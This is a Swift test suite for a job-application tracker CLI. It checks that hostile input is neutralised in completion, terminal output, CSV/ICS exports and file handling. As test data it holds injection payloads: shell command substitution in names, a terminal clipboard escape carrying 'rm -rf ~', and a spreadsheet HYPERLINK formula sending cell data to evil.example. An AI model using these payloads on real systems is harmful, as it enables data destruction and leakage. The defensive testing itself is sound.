import Foundation
import JSON
import Testing

@Suite("Nothing hostile gets through: numbers")
struct HostileNumberTests {
    /// The Acme file with one settings number replaced by `raw` (written as is into the JSON).
    func fileWith(_ s: Sandbox, _ key: String, _ raw: String) throws {
        _ = Acme(s)
        let text = String(decoding: s.bytes ?? Data(), as: UTF8.self)
        let patched = text.replacingOccurrences(of: "\"settings\": {", with: "\"settings\": {\n    \"\(key)\": \(raw),")
        #expect(patched != text)
        try Data(patched.utf8).write(to: URL(fileURLWithPath: s.file))
    }

    @Test("an out-of-range number in the settings gives one line naming it and its range, never a trap",
          arguments: [("thankYouHours", "9007199254740993"), ("thankYouHours", "-5"), ("maxStrikes", "1e8"), ("spacingDays", "0")])
    func outOfRange(_ key: String, _ raw: String) throws {
        let s = Sandbox()
        try fileWith(s, key, raw)
        let before = s.bytes
        for command in [["agenda"], ["agenda", "--json"], ["strikes"], ["apps"], ["show", "acme"], ["timeline", "acme"], ["export", "ics"], ["export", "csv"]] {
            let out = s.run(command)
            #expect(out.status == 3, "\(command): \(out.stderr)")
            #expect(out.stderr.split(separator: "\n").count == 1, "\(command): \(out.stderr)")
            #expect(out.stderr.contains("settings.\(key)") && out.stderr.contains("must be from"), "\(command): \(out.stderr)")
        }
        let check = s.run(["check"])
        #expect(check.status == 1)
        #expect(check.stdout.contains("settings.\(key)"))
        #expect(s.bytes == before, "nothing was written")
        // The file can be repaired from the command line.
        s.ok(["settings", key, "default"])
        #expect(s.run(["agenda", "--json"]).status == 0)
        #expect(s.run(["check"]).status == 0)
    }

    @Test("numbers on the command line out of range are refused with exit 2, never clamped")
    func commandLineNumbers() {
        let s = Sandbox()
        let acme = Acme(s)
        let before = s.bytes
        for args in [["agenda", "--days", "9223372036854775807"], ["agenda", "--days", "-1"],
                     ["interview", "add", "--app", acme.app, "--at", "2026-11-20T10:00", "--minutes", "100000"],
                     ["interview", "add", "--app", acme.app, "--at", "2026-11-20T10:00", "--round", "0"],
                     ["settings", "maxStrikes", "100000"]] {
            let out = s.run(args)
            #expect(out.status == 2, "\(args): \(out.stderr)")
            #expect(out.stderr.split(separator: "\n").count == 1, "\(args): \(out.stderr)")
        }
        #expect(s.bytes == before)
    }
}

@Suite("Nothing hostile gets through: shells")
struct HostileShellTests {
    @Test("bash completion, sourced in bash, offers ids and names and never runs what a name holds")
    func completionRunsNothing() throws {
        let s = Sandbox()
        let marker = s.folder + "/pwned"
        let evil = s.ok(["app", "add", "--employer", "Evil $(touch \(marker))", "--role", "x"])
        let back = s.ok(["app", "add", "--employer", "Back `touch \(marker)2`", "--role", "x"])
        s.ok(["app", "add", "--employer", "Acme Corp", "--role", "x"])
        let bin = URL(fileURLWithPath: followupBinary).deletingLastPathComponent().path
        let script = """
        export PATH='\(bin)':"$PATH"
        source <(followup --generate-completion-script bash)
        COMP_WORDS=(followup show --file '\(s.file)' "")
        COMP_CWORD=4
        COMP_LINE="followup show --file '\(s.file)' "
        COMP_POINT=${#COMP_LINE}
        _followup
        printf '%s\\n' "${COMPREPLY[@]}"
        """
        let out = Sandbox.exec(["-c", script], environment: ["HOME": s.folder], binary: "/bin/bash")
        #expect(out.status == 0, "\(out.stderr)")
        let offered = out.stdout.split(separator: "\n").map(String.init)
        #expect(offered.contains(evil) && offered.contains(back) && offered.contains("Acme Corp"), "\(offered)")
        #expect(!FileManager.default.fileExists(atPath: marker))
        #expect(!FileManager.default.fileExists(atPath: marker + "2"))
    }
}

@Suite("Nothing hostile gets through: terminals")
struct HostileTextTests {
    static let hostile = "Evil\u{1B}]52;c;cm0gLXJmIH4=\u{07}\u{1B}[2J\u{202E}gnp.exe\u{FEFF}\u{9B}31m"

    func raw(_ text: String) -> Bool {
        text.unicodeScalars.contains { [0x1B, 0x07, 0x202E, 0xFEFF, 0x9B].contains($0.value) }
    }

    @Test("escape sequences and bidi controls stored in names and notes never reach the terminal raw")
    func textOutputs() throws {
        let s = Sandbox()
        let app = s.ok(["app", "add", "--employer", Self.hostile, "--role", Self.hostile])
        s.ok(["contact", "add", "--app", app, "--name", Self.hostile, "--role", "hiring-manager"])
        s.ok(["interview", "add", "--app", app, "--at", "2026-11-16T08:00"])
        s.ok(["log", "note", "--app", app, "--text", Self.hostile])
        s.ok(["settings", "name", Self.hostile])
        s.now = "2026-11-16T12:00"
        for command in [["show", app], ["timeline", app], ["agenda"], ["apps"], ["strikes"], ["undo", "--list"],
                        ["settings", "name"], ["check"], ["show", Self.hostile + "x"]] {
            let out = s.run(command)
            #expect(!raw(out.stdout) && !raw(out.stderr), "\(command)")
        }
        // JSON stays the same data, written with escapes.
        let json = s.run(["agenda", "--json"])
        #expect(!raw(json.stdout))
        let employers = json.json?["tasks"]?.arrayValue?.compactMap { $0["employer"]?.stringValue } ?? []
        #expect(employers.contains(Self.hostile))
        // The data itself is stored faithfully.
        #expect(s.ok(["export", "json"]).contains("\u{202E}gnp.exe"))
    }
}

/// Python with the parsers the export tests read with (scripts/setup --tests installs them).
let pythonParsers: Bool = Sandbox.exec(["python3", "-c", "import icalendar, ical.calendar_stream"], environment: [:], binary: "/usr/bin/env").status == 0

@Suite("Nothing hostile gets through: spreadsheets and calendars", .enabled(if: pythonParsers))
struct HostileExportTests {
    static let script = URL(fileURLWithPath: #filePath).deletingLastPathComponent().appendingPathComponent("Parsers/check_exports.py").path

    func parse(_ kind: String, _ text: String, _ s: Sandbox) -> Output {
        let path = s.folder + "/export." + kind
        _ = FileManager.default.createFile(atPath: path, contents: Data(text.utf8))
        return Sandbox.exec(["python3", HostileExportTests.script, kind, path], environment: [:], binary: "/usr/bin/env")
    }

    func hostileFile() -> (Sandbox, String) {
        let s = Sandbox()
        let app = s.ok(["app", "add", "--employer", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "--role", "@SUM(1+1)"])
        s.ok(["contact", "add", "--app", app, "--name", "Dana", "--phone", "+1 312 555 0100", "--role", "hiring-manager"])
        s.ok(["interview", "add", "--app", app, "--at", "2026-11-16T10:00", "--with", "Dana"])
        s.ok(["log", "note", "--app", app, "--text", "first line\nsecond line, with a comma\r\nthird\rfourth\u{7}bell"])
        s.ok(["log", "note", "--app", app, "--text", "-2+3"])
        s.ok(["log", "note", "--app", app, "--text", "+1 312 555 0100"])
        s.now = "2026-11-16T12:00"
        return (s, app)
    }

    @Test("CSV: cells a spreadsheet would evaluate start with an apostrophe, a phone number stays as it is, line breaks quoted; Python's csv reads every row")
    func csvExport() throws {
        let (s, app) = hostileFile()
        s.ok(["app", "edit", app, "--location=-1+1 Main St\nsecond line, with a comma"])
        let out = parse("csv", s.ok(["export", "csv"]) + "\r\n", s)
        #expect(out.status == 0, "\(out.stderr)")
        let rows = try JSONDecoder().decode([[String]].self, from: Data(out.stdout.utf8))
        #expect(rows.count == 2, "header, one application")
        #expect(rows.allSatisfy { $0.count == rows[0].count })
        let cells = rows.dropFirst().flatMap { $0 }
        #expect(!cells.contains { $0.hasPrefix("=") || $0.hasPrefix("@") || $0.hasPrefix("-") })
        #expect(cells.contains("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"))
        #expect(cells.contains("'@SUM(1+1)"))
        #expect(cells.contains("'-1+1 Main St\nsecond line, with a comma"))
        #expect(cells.contains("+1 312 555 0100"))
        let people = parse("csv", s.ok(["export", "csv", "--contacts"]) + "\r\n", s)
        let contactRows = try JSONDecoder().decode([[String]].self, from: Data(people.stdout.utf8))
        #expect(contactRows.count == 2 && contactRows[1].contains("+1 312 555 0100") && contactRows[1].contains("'@SUM(1+1)"))
    }

    @Test("ICS: a note's line breaks, bare CR and control characters are escaped or dropped; both a lenient and a strict parser read it")
    func icsExport() throws {
        let (s, _) = hostileFile()
        let ics = s.ok(["export", "ics"]) + "\r\n"
        #expect(!ics.replacingOccurrences(of: "\r\n", with: "").unicodeScalars.contains { $0 == "\r" || $0 == "\n" || $0.value == 7 })
        let out = parse("ics", ics, s)
        #expect(out.status == 0, "\(out.stderr)")
        #expect(out.stdout.contains("\"strict\": "))
    }
}

@Suite("Nothing hostile gets through: the file system")
struct HostileFileSystemTests {
    @Test("a FIFO in place of the data file is refused at once with one line, and holds no lock")
    func fifo() throws {
        let s = Sandbox()
        #expect(mkfifo(s.file, 0o600) == 0)
        for command in [["agenda"], ["check"], ["log", "note", "--app", "x"]] {
            let out = s.run(command)
            #expect(out.status == 3, "\(command): \(out.stderr)")
            #expect(out.stderr.contains("FIFO") && out.stderr.split(separator: "\n").count == 1, "\(command): \(out.stderr)")
        }
    }

    @Test("a symbolic link loop is an error for check, not a file that does not exist yet")
    func symlinkLoop() throws {
        let s = Sandbox()
        try FileManager.default.createSymbolicLink(atPath: s.file, withDestinationPath: s.file + ".other")
        try FileManager.default.createSymbolicLink(atPath: s.file + ".other", withDestinationPath: s.file)
        let out = s.run(["check"])
        #expect(out.status == 3, "\(out.stdout) \(out.stderr)")
        #expect(!out.stdout.contains("does not exist yet"))
    }

    @Test("a lock file planted as a link (symbolic or hard) to another file is refused; that file is untouched")
    func plantedLock() throws {
        let s = Sandbox()
        _ = Acme(s)
        let victim = s.folder + "/victim.txt"
        _ = FileManager.default.createFile(atPath: victim, contents: Data("precious".utf8))
        try? FileManager.default.removeItem(atPath: s.file + ".lock")
        try FileManager.default.createSymbolicLink(atPath: s.file + ".lock", withDestinationPath: victim)
        let before = s.bytes
        let out = s.run(["log", "note", "--app", "acme"])
        #expect(out.status == 3, "\(out.stderr)")
        #expect(FileManager.default.contents(atPath: victim) == Data("precious".utf8))
        try FileManager.default.removeItem(atPath: s.file + ".lock")
        #expect(link(victim, s.file + ".lock") == 0)
        #expect(s.run(["log", "note", "--app", "acme"]).status == 3)
        #expect(FileManager.default.contents(atPath: victim) == Data("precious".utf8))
        #expect(s.bytes == before)
    }
}

@Suite("Nothing hostile gets through: pipes")
struct PipeTests {
    @Test("a reader that goes away ends the output quietly, even with SIGPIPE ignored")
    func closedPipe() throws {
        let s = Sandbox()
        let acme = Acme(s)
        let long = String(repeating: "a long note ", count: 8_000)
        for _ in 0..<8 { s.ok(["log", "note", "--app", acme.app, "--text", long]) }
        for command in ["export json", "agenda", "show \(acme.app)"] {
            let script = "trap '' PIPE; '\(followupBinary)' \(command) --file '\(s.file)' --now 2026-11-16T09:00 | head -c 10 >/dev/null; echo \"status=${PIPESTATUS[0]}\""
            let out = Sandbox.exec(["-c", script], environment: ["HOME": s.folder, "TZ": "America/New_York"], binary: "/bin/bash")
            #expect(out.stdout.contains("status=0"), "\(command): \(out.stdout) \(out.stderr)")
            #expect(!out.stderr.contains("crashed") && !out.stderr.contains("Fatal error"), "\(command): \(out.stderr)")
        }
    }
}

@Suite("Nothing hostile gets through: the environment")
struct EnvironmentTests {
    @Test("TERM=dumb or an unknown TERM: one clear line, exit 2, no garbled screen", arguments: ["dumb", "no-such-terminal"])
    func badTerm(_ term: String) {
        let s = Sandbox()
        _ = Acme(s)
        let out = s.runInTerminal([], environment: ["TERM": term])
        #expect(out.status == 2, "\(out.stdout)")
        #expect(out.stdout.contains("TERM=\(term)"))
        #expect(out.stdout.split(separator: "\n").count == 1, "\(out.stdout)")
    }

    @Test("TZ in the :Area/City form, as a path or a POSIX name is honoured; an unknown zone is an error, not UTC")
    func timeZones() {
        let s = Sandbox()
        _ = Acme(s)
        for (tz, offset) in [(":Europe/Berlin", "+01:00"), ("Europe/Berlin", "+01:00"), (":/usr/share/zoneinfo/Asia/Tokyo", "+09:00"), ("EST5EDT", "-05:00")] {
            let out = s.run(["agenda", "--json"], environment: ["TZ": tz])
            #expect(out.json?["now"]?.stringValue?.hasSuffix(offset) == true, "\(tz): \(out.stdout) \(out.stderr)")
        }
        let bad = s.run(["agenda"], environment: ["TZ": "Mars/Olympus"])
        #expect(bad.status == 2 && bad.stderr.contains("TZ=Mars/Olympus"))
    }
}

@Suite("Nothing hostile gets through: backups and versions")
struct BackupEdgeTests {
    @Test("runs dated in the future never push real backups out; a backup left 0644 is made 0600")
    func futureRunsKeepRealBackups() throws {
        let s = Sandbox()
        s.now = "2026-11-16T09:00"
        let app = s.ok(["app", "add", "--employer", "Acme", "--role", "Dev"])
        for day in 17...19 { s.now = "2026-11-\(day)T09:00"; s.ok(["log", "note", "--app", app]) }
        for day in 1...7 { s.now = "2030-01-0\(day)T09:00"; s.ok(["log", "note", "--app", app]) }
        chmod(s.file + ".2026-11-17", 0o644)
        s.now = "2026-11-20T09:00"
        s.ok(["log", "note", "--app", app])
        for day in 17...20 {
            #expect(FileManager.default.fileExists(atPath: s.file + ".2026-11-\(day)"), "the backup of \(day) Nov")
        }
        let attributes = try FileManager.default.attributesOfItem(atPath: s.file + ".2026-11-17")
        #expect(attributes[.posixPermissions] as? Int == 0o600)
    }

    @Test("a file from a newer version with a kind this one does not know is named as such, never written")
    func newerVersionWithNewKind() throws {
        let s = Sandbox()
        let acme = Acme(s)
        s.ok(["interview", "add", "--app", acme.app, "--at", "2026-11-20T10:00", "--kind", "onsite"])
        var text = String(decoding: s.bytes ?? Data(), as: UTF8.self)
        text = text.replacingOccurrences(of: "\"version\": 1", with: "\"version\": 2")
            .replacingOccurrences(of: "\"kind\": \"onsite\"", with: "\"kind\": \"hologram\"")
        try Data(text.utf8).write(to: URL(fileURLWithPath: s.file))
        let before = s.bytes
        let out = s.run(["agenda"])
        #expect(out.status == 3)
        #expect(out.stderr.contains("newer followup"), "\(out.stderr)")
        #expect(s.run(["log", "note", "--app", "acme"]).status == 3)
        #expect(s.bytes == before)
    }
}

@Suite("Nothing hostile gets through: zsh and fish candidates")
struct CompletionCandidateTests {
    @Test("zsh reads name:description, so a colon is escaped; a line break never ends up in a candidate", arguments: ["zsh", "fish"])
    func candidates(_ shell: String) {
        let s = Sandbox()
        s.ok(["app", "add", "--employer", "Acme: Inc", "--role", "x"])
        s.ok(["app", "add", "--employer", "Two\nLines", "--role", "x"])
        let out = Sandbox.exec(["---completion", "show", "--", "positional@0", "2", "0", "followup", "show", ""],
                               environment: ["FOLLOWUP_FILE": s.file, "SAP_SHELL": shell])
        let lines = out.stdout.split(separator: "\n").map(String.init)
        #expect(lines.contains(shell == "zsh" ? "Acme\\: Inc" : "Acme: Inc"), "\(lines)")
        #expect(!lines.contains { $0.hasPrefix("Lines") || $0 == "Two" }, "\(lines)")
    }
}
